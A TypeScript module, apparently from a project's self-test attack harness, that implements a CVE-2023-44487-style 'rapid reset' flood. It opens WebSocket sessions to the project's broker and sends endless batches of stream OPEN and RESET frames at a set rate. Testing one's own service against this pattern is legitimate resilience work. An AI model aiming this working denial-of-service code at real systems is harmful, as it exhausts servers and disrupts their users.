// Streams opened and reset in one breath (CVE-2023-44487): each costs the other side more than it costs this one.

import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';
import { wireCodes } from '../../src/protocol/errors.ts';
import { frameTypes } from '../../src/protocol/frame.ts';
import { frame, message } from '../refusals/raw-peer.ts';
import type { Attack } from './main.ts';

const pairsPerMessage = 50;
const target = JSON.stringify({ host: '127.0.0.1', port: 9 });

/** `lag`: streams opened before the reset of one. A session that is ended is followed by the next at once. */
export async function rapidReset(attack: Attack, pairsPerSecond: number, lag = 0): Promise<never> {
  for (;;) {
    const id = randomBytes(8).readBigUInt64BE();
    const socket = new WebSocket(
      `${attack.url}/v1/dial?node=edge-1&session=${id.toString(16).padStart(16, '0')}`,
      'fairlead.v1',
      { headers: { authorization: `Bearer ${attack.token}` }, localAddress: attack.localAddress },
    );
    socket.on('error', () => {});
    // GOAWAY from the agent, or the broker's close: this session is over.
    let isOver = false;
    socket.on('message', (data: Buffer) => {
      if (data.readBigUInt64BE(0) === id && data[8] === frameTypes.GOAWAY) isOver = true;
    });
    socket.on('close', () => {
      isOver = true;
    });
    const isOpen = await Promise.race([
      once(socket, 'open').then(() => true),
      once(socket, 'close').then(() => false),
    ]).catch(() => false);
    count(attack, isOpen ? 'links' : 'refused');
    if (isOpen) {
      socket.send(message(id, frame({ type: frameTypes.SYNC })));
      await flood(attack, socket, id, { pairsPerSecond, lag, isOver: () => isOver });
      count(attack, 'sessions ended');
    }
    socket.terminate();
    await sleep(1);
  }
}

async function flood(
  attack: Attack,
  socket: WebSocket,
  id: bigint,
  { pairsPerSecond, lag, isOver }: { pairsPerSecond: number; lag: number; isOver: () => boolean },
): Promise<void> {
  let began = performance.now();
  let sent = 0;
  for (let stream = 1; !isOver(); stream += pairsPerMessage) {
    const pairs = Array.from({ length: pairsPerMessage }, (_, i) =>
      Buffer.concat([
        frame({ type: frameTypes.OPEN, stream: stream + i, argument: 262_144, payload: target }),
        ...(stream + i > lag
          ? [frame({ type: frameTypes.RESET, stream: stream + i - lag, argument: wireCodes.ERR_ABORTED })]
          : []),
      ]),
    );
    socket.send(message(id, ...pairs));
    sent += pairsPerMessage;
    count(attack, 'pairs', pairsPerMessage);
    const aheadMs = (sent / pairsPerSecond) * 1000 - (performance.now() - began);
    if (aheadMs < -50) {
      // Held up, by a test for one: what was not sent then is not made up for, which would break the limit.
      began = performance.now();
      sent = 0;
    }
    // Only as much as keeps the pipe full.
    if (aheadMs > 1) await sleep(aheadMs);
    else if (socket.bufferedAmount > 262_144) await sleep(1);
    else if (stream % 1000 === 1) await new Promise(setImmediate);
  }
}

function count(attack: Attack, what: string, more = 1): void {
  attack.done[what] = (attack.done[what] ?? 0) + more;
}
